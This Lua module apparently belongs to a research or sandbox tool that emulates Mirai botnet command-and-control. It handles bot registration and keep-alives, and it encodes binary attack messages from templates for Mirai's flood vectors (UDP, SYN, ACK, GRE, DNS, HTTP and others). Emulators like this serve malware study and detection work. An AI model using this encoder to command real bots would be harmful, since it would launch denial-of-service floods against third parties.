-- Mirai: a binary protocol, big-endian. The bot sends 00 00 00 01, one byte
-- with the length of its name, the name; then 00 00 every minute, which the
-- server sends back. An attack message is
--
--   length (2, whole message)  seconds (4)  vector (1)
--   targets (1), each: address (4) prefix (1)
--   options (1), each: key (1) length (1) value
--
-- Sources, public analyses only:
--   M. Antonakakis et al., "Understanding the Mirai Botnet", USENIX Security
--   2017 (the bot's life, its C2 and the attack types);
--   MITRE ATT&CK T1498 (network floods). Field order and vector numbers as the
--   published dissections of captured C2 traffic give them.
-- A command is written as words: vector=N, target=ADDRESS[/BITS] (again for
-- more), seconds=N, option.KEY=VALUE; cut=N drops the last N bytes.

local scenario = require "scenario"

local PING = "\0\0"

local function address(text)
  local a, b, c, d, bits = text:match("^(%d+)%.(%d+)%.(%d+)%.(%d+)/?(%d*)$")
  if not a then error("mirai: no address: " .. text, 0) end
  return string.char(a, b, c, d, bits == "" and 32 or tonumber(bits))
end

-- The bytes of an attack message.
local function wrap(_, text)
  local vector, seconds, cut, targets, options = 0, 5, 0, {}, {}
  for key, value in text:gmatch("(%S-)=(%S+)") do
    local option = key:match("^option%.(%d+)$")
    if key == "vector" then vector = tonumber(value)
    elseif key == "seconds" then seconds = tonumber(value) // 1 | 0
    elseif key == "cut" then cut = tonumber(value)
    elseif key == "target" then targets[#targets + 1] = address(value)
    elseif option then
      options[#options + 1] = string.pack(">Bs1", tonumber(option), value)
    end
  end
  local body = string.pack(">I4BB", seconds, vector, #targets) .. table.concat(targets)
    .. string.char(#options) .. table.concat(options)
  body = body:sub(1, #body - cut)
  return string.pack(">I2", #body + 2) .. body
end

local function greet(s)
  s.conn:set_timeout(10)
  local magic, err, partial = s.conn:recv_bytes(4)
  if not magic then
    s.conn:note("hello", { known = false, text = partial, error = err })
    return nil, err
  end
  local id
  local length = s.conn:recv_bytes(1)
  if length and length:byte() > 0 then id = s.conn:recv_bytes(length:byte()) end
  s.conn:note("hello", { known = magic == "\0\0\0\1", text = magic, id = id })
  return length and true or nil, "closed"
end

local function hear(s, message)
  if message ~= PING then return "reply" end
  s.conn:send(PING)
  return "alive"
end

local family = scenario.family {
  name = "mirai",
  description = "Mirai: binary registration, keep-alive and attack messages",
  ports = { tcp = { 23, 48101, 23232, 2323, 1024 } },
  match = function(first)
    if first:find("^\0\0\0\1") then return 98 end
    return first ~= "" and ("\0\0\0\1"):sub(1, #first) == first and 60 or 0
  end,
  hello = { run = greet },
  read = function(s) return s.conn:recv_bytes(2) end,
  hear = hear,
  wrap = wrap,
  options = { seconds = 3, max = 8 },
  defaults = { host = "www.resolve.example", path = "/" },
  commands = {
    { name = "udp", send = "vector=0 target={target} seconds={seconds} option.7={port}" },
    { name = "vse", send = "vector=1 target={target} seconds={seconds} option.7=27015" },
    { name = "dns", send = "vector=2 target={target} seconds={seconds} option.8={host}" },
    { name = "syn", send = "vector=3 target={target} seconds={seconds} option.7={port}" },
    { name = "ack", send = "vector=4 target={target} seconds={seconds} option.7={port}" },
    { name = "stomp", send = "vector=5 target={target} seconds={seconds} option.7={port}" },
    { name = "greip", send = "vector=6 target={target} seconds={seconds} option.7={port}" },
    { name = "greeth", send = "vector=7 target={target} seconds={seconds} option.7={port}" },
    { name = "udpplain", send = "vector=9 target={target} seconds={seconds} option.7={port}" },
    { name = "http", send = "vector=10 target={target} seconds={seconds} option.7=80"
      .. " option.8={host} option.21={path}" },
    { name = "no target", send = "vector=0 seconds={seconds}" },
    { name = "cut options", send = "vector=0 target={target} seconds={seconds} option.7={port}"
      .. " cut=2" },
  },
}

return family
